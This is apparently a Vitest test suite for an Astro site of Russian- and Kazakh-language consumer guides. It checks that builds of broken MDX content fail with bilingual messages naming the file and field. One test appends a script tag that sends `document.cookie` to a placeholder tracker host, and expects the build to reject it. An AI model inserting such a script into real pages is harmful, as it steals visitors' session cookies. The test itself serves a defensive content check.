import { cpSync, mkdirSync, readFileSync, readdirSync, renameSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { buildChangedFixture } from './build-content';

/** Rewrites one fixture file: `edit` gets and returns its text. */
function edit(contentDir: string, file: string, change: (source: string) => string) {
  const path = join(contentDir, file);
  writeFileSync(path, change(readFileSync(path, 'utf8')));
}

const GUIDE = 'lifehacks/ru/only-in-russian.mdx';

/**
 * Mistakes editors make, each of which must stop the build (so nothing broken is published)
 * with a message that names the file and the field and says what is expected.
 * Sequential on purpose: every Astro build rewrites the project's .astro/ folder.
 */
describe('a build of broken content fails with a message naming the file and the field', () => {
  it('unsafe MDX (a script tag): the same content check as `npm run check`, in Russian and Kazakh', async () => {
    const { code, output } = await buildChangedFixture((dir) =>
      edit(dir, GUIDE, (s) => `${s}\n<script>fetch('https://tracker.example/?c=' + document.cookie)</script>\n`),
    );
    expect(code).not.toBe(0);
    expect(output).toContain('lifehacks/ru/only-in-russian.mdx');
    expect(output).toContain('тег <script> запрещён');
    expect(output).toContain('<script> тегіне мақалада тыйым салынған');
  });

  it('every file of the broken-MDX fixture suite: the build refuses them all, naming each', async () => {
    const names = readdirSync('tests/fixtures/broken-mdx').filter((f) => f.endsWith('.mdx') && f !== 'valid.mdx');
    const { code, output } = await buildChangedFixture((dir) => {
      for (const name of names) cpSync(join('tests/fixtures/broken-mdx', name), join(dir, 'lifehacks/ru', name));
    });
    expect(code).not.toBe(0);
    for (const name of names) expect(output).toContain(`lifehacks/ru/${name}`);
    // An AstroError with a title and a bilingual hint, and no stack trace: the mistake is in content.
    expect(output).toMatch(/\[ContentCheckError\] Content check: \d+ errors in the content/);
    expect(output).toContain('Hint:');
    expect(output).toContain('ru: исправьте каждый файл в указанной строке');
    expect(output).toContain('kk: әр файлды көрсетілген жолда түзетіңіз');
    expect(output).not.toContain('Stack trace');
    expect(output).not.toMatch(/^\s+at .+\(.+:\d+:\d+\)$/m);
  });

  it('missing title', async () => {
    const { code, output } = await buildChangedFixture((dir) => edit(dir, GUIDE, (s) => s.replace(/^title:.*\n/m, '')));
    expect(code).not.toBe(0);
    expect(output).toContain('lifehacks/ru/only-in-russian.mdx');
    // The content check runs first in every build, with the messages of `npm run check`.
    expect(output).toContain('поле «title» обязательно');
    expect(output).toContain('«title» өрісі міндетті');
  });

  it('an impossible date typed without quotes (YAML alone would read 2026-13-45 as 14 February 2027)', async () => {
    const { code, output } = await buildChangedFixture((dir) =>
      edit(dir, GUIDE, (s) => s.replace(/^checked:.*$/m, 'checked: 2026-13-45')),
    );
    expect(code).not.toBe(0);
    expect(output).toMatch(/lifehacks\/ru\/only-in-russian\.mdx:\d+ \(checked\)/);
    expect(output).toContain('в поле «checked» не дата: "2026-13-45"');
    expect(output).toContain('«checked» өрісінде күн емес: "2026-13-45"');
  });

  it('a checked date in the future', async () => {
    const { code, output } = await buildChangedFixture((dir) =>
      edit(dir, GUIDE, (s) => s.replace(/^checked:.*$/m, 'checked: 2099-01-01')),
    );
    expect(code).not.toBe(0);
    expect(output).toContain('дата в поле «checked» ещё не наступила: 2099-01-01');
    expect(output).toContain('«checked» өрісіндегі күн әлі келген жоқ: 2099-01-01');
  });

  it('unknown topic', async () => {
    const { code, output } = await buildChangedFixture((dir) =>
      edit(dir, GUIDE, (s) => s.replace('topics: [return-exchange]', 'topics: [refunds]')),
    );
    expect(code).not.toBe(0);
    expect(output).toContain('lifehacks/ru/only-in-russian.mdx');
    expect(output).toMatch(/lifehacks\/ru\/only-in-russian\.mdx:5 \(topics\.0\)/);
    expect(output).toMatch(/в поле «topics\.0» неизвестное значение "refunds"\. Допустимые: return-exchange, .*prices/);
  });

  it('a language folder other than ru or kk', async () => {
    const { code, output } = await buildChangedFixture((dir) => {
      mkdirSync(join(dir, 'lifehacks/en'));
      renameSync(join(dir, GUIDE), join(dir, 'lifehacks/en/only-in-russian.mdx'));
    });
    expect(code).not.toBe(0);
    expect(output).toContain('lifehacks/en/only-in-russian.mdx');
    expect(output).toContain('папка «en» — не язык сайта: перенесите файл в папку ru или kk.');
  });

  it('a lifehack without a law reference', async () => {
    const { code, output } = await buildChangedFixture((dir) =>
      edit(dir, GUIDE, (s) => s.replace(/^lawReferences:\n(?: {2}- .*\n)+/m, '')),
    );
    expect(code).not.toBe(0);
    expect(output).toContain('lifehacks/ru/only-in-russian.mdx');
    expect(output).toContain('поле «lawReferences» обязательно');
  });

  it('a malformed date', async () => {
    const { code, output } = await buildChangedFixture((dir) =>
      edit(dir, GUIDE, (s) => s.replace('checked: 2026-11-25', 'checked: 25.11.2026')),
    );
    expect(code).not.toBe(0);
    expect(output).toContain('lifehacks/ru/only-in-russian.mdx');
    expect(output).toContain('в поле «checked» не дата: "25.11.2026". Пишите ГГГГ-ММ-ДД');
  });

  it('a related entry that does not exist', async () => {
    const { code, output } = await buildChangedFixture((dir) =>
      edit(dir, GUIDE, (s) => s.replace('videos/fixture-video', 'videos/no-such-video')),
    );
    expect(code).not.toBe(0);
    expect(output).toContain('lifehacks/ru/only-in-russian.mdx:9 (related.0)');
    expect(output).toContain('в «related» указан материал, которого нет: videos/no-such-video.');
  });

  it('and the unbroken fixture builds, printing the translation report', async () => {
    const { code, output } = await buildChangedFixture(() => {});
    expect(code, output).toBe(0);
    expect(output).toContain('content/lifehacks/kk/only-in-russian.mdx is missing (exists in ru)');
  });
});
